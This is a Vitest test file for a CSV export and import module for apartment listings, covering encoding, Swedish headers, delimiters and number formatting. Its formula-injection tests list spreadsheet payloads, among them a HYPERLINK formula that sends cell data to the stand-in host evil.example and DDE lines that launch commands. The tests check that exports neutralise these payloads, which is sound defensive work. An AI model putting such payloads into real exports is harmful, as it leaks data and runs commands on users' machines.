import { describe, expect, it } from 'vitest';
import { neutraliseFormula, restoreFormula } from '@planvy/shared';
import { buildCsv, decodeCsv, formatNumber, parseCsv, readImport } from './apartment-csv';

describe('apartment CSV', () => {
  it('writes UTF-16LE with a BOM and tabs, and reads it back with Swedish letters intact', () => {
    const bytes = buildCsv(
      [{ bostad: 'Lgh 1101', description: 'Ljus våning; "fin" utsikt\növer sjön', price: '1 995 000' }],
      'sv',
    );
    expect([...bytes.subarray(0, 2)]).toEqual([0xff, 0xfe]);
    const text = decodeCsv(bytes);
    expect(text.split('\r\n')[0]).toBe(
      'Bostad\tRum\tVåning\tBoarea\tPris\tAvgift\tTrädgård\tStatus\tInaktiv\tHusnummer\tLänk\tBeskrivning\tInformationsfiler',
    );
    const { records } = readImport(text);
    expect(records).toHaveLength(1);
    expect(records[0]!.record.description).toBe('Ljus våning; "fin" utsikt\növer sjön');
    expect(records[0]!.record.bostad).toBe('Lgh 1101');
  });

  it('reads UTF-8 files with semicolons or commas and English headers', () => {
    const semi = readImport('\ufeffBostad;Pris;Status\n1101;2 500 000;Till salu\n');
    expect(semi.records[0]!.record).toEqual({ bostad: '1101', price: '2 500 000', status: 'Till salu' });
    const comma = readImport(decodeCsv(Buffer.from('Unit,Price,Colour\r\n"A,1",100,red\r\n')));
    expect(comma.records[0]!.record).toEqual({ bostad: 'A,1', price: '100' });
    expect(comma.unknownColumns).toEqual(['Colour']);
  });

  it('formats decimals for the language', () => {
    expect(formatNumber(70.5, 'sv')).toBe('70,5');
    expect(formatNumber(70.5, 'en')).toBe('70.5');
    expect(formatNumber(null, 'en')).toBe('');
  });

  it('skips blank lines', () => {
    expect(parseCsv('a;b\n\n1;2\n')).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ]);
  });

  describe('formula injection', () => {
    const attacks = [
      '=HYPERLINK("https://evil.example/?"&A1,"Klicka")',
      "=cmd|' /C calc'!A0",
      '+46 70 123 45 67',
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      "'=already quoted",
      "''=twice",
      '-1e5',
    ];

    it('writes every cell a spreadsheet would run as text, behind one apostrophe', () => {
      const bytes = buildCsv(
        attacks.map((a) => ({ bostad: a, description: a })),
        'en',
      );
      const rows = parseCsv(decodeCsv(bytes)).slice(1);
      expect(rows).toHaveLength(attacks.length);
      for (const [i, row] of rows.entries()) {
        for (const cell of [row[0]!, row[11]!]) {
          expect(cell.startsWith("'")).toBe(true);
          expect(cell.slice(1)).toBe(attacks[i]);
        }
      }
    });

    it('leaves plain numbers, negative ones included, and ordinary text alone', () => {
      for (const value of ['-1', '-70,5', '-70.5', '+3', '0', '1101', 'Lgh -1', "it's", "'quoted'", ''])
        expect(neutraliseFormula(value)).toBe(value);
    });

    it('imports an export back to the very same values', () => {
      const values = [...attacks, '-1', "'hello", 'plain'];
      const bytes = buildCsv(
        values.map((v, i) => ({ bostad: `B${i}`, floor: v, description: v })),
        'sv',
      );
      const { records } = readImport(decodeCsv(bytes));
      expect(records.map((r) => r.record.description)).toEqual(values.map((v) => v.trim()));
      expect(records.map((r) => r.record.floor)).toEqual(values.map((v) => v.trim()));
    });

    it('is undone by restoreFormula for every value', () => {
      for (const v of [...attacks, '-1', "'x", "'", "''", '='])
        expect(restoreFormula(neutraliseFormula(v))).toBe(v);
    });
  });
});
